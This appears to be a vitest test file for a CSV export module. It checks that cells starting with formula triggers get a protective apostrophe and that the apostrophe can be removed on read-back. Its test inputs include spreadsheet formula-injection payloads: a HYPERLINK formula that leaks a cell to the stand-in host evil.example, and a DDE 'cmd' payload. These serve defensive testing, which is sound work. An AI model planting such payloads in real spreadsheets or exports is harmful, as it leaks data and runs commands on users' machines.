import { once } from 'node:events';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createCsvStringifier, neutraliseFormula, restoreFormula } from './csv.ts';

async function csvOf(columns: string[], rows: (string | number)[][]): Promise<string> {
  const csv = createCsvStringifier(columns);
  const chunks: Buffer[] = [];
  csv.on('data', (chunk: Buffer) => chunks.push(Buffer.from(chunk)));
  const finished = once(csv, 'end');
  for (const row of rows) csv.write(row);
  csv.end();
  await finished;
  return Buffer.concat(chunks).toString('utf8');
}

describe('CSV cells safe for spreadsheets', () => {
  it.each([
    ['=', '=HYPERLINK("https://evil.example/?leak="&A2,"Open report")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A9)'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
    ['full-width =', '\uFF1D1+1'],
    ['full-width +', '\uFF0B1'],
    ['full-width -', '\uFF0D1'],
    ['full-width @', '\uFF20SUM(A1)'],
  ])('puts an apostrophe before a cell starting with %s, and reads it back', (_, text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(restoreFormula(neutraliseFormula(text))).toBe(text);
  });

  it('leaves other text alone, a trigger inside the text included', () => {
    for (const text of ['Lisbon', 'a=b', ' =1', '', "'quoted'", "l'accueil", '1-2', '日本'])
      expect(neutraliseFormula(text)).toBe(text);
    expect(restoreFormula("'quoted'")).toBe("'quoted'");
    expect(restoreFormula("l'accueil")).toBe("l'accueil");
  });

  it('keeps apostrophes already before a trigger, so that reading back gives the text written', () => {
    expect(neutraliseFormula("'=1+1")).toBe("''=1+1");
    expect(restoreFormula("''=1+1")).toBe("'=1+1");
    expect(neutraliseFormula("''-x")).toBe("'''-x");
    expect(restoreFormula(neutraliseFormula("''-x"))).toBe("''-x");
  });

  it('writes CSV with the apostrophe inside proper quoting, numbers left as numbers', async () => {
    const text = await csvOf(
      ['title', 'year', 'note'],
      [
        ['=HYPERLINK("https://evil.example/?leak="&A2,"Open report")', -5, 'plain'],
        ['@a, b', 2019, 'line\nbreak'],
        ['-1', 0, ' padded '],
      ],
    );
    expect(text.split('\n')[0]).toBe('title,year,note');
    expect(text).toContain(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open report"")",-5,plain`,
    );
    expect(text).toContain(`"'@a, b",2019,"line\nbreak"`);
    expect(text).toContain(`'-1,0," padded "`);
    // A CSV reader gets the cells back with their apostrophe, and restoreFormula the text.
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => restoreFormula(r.title as string))).toEqual([
      '=HYPERLINK("https://evil.example/?leak="&A2,"Open report")',
      '@a, b',
      '-1',
    ]);
    expect(rows.map((r) => r.year)).toEqual(['-5', '2019', '0']);
  });
});
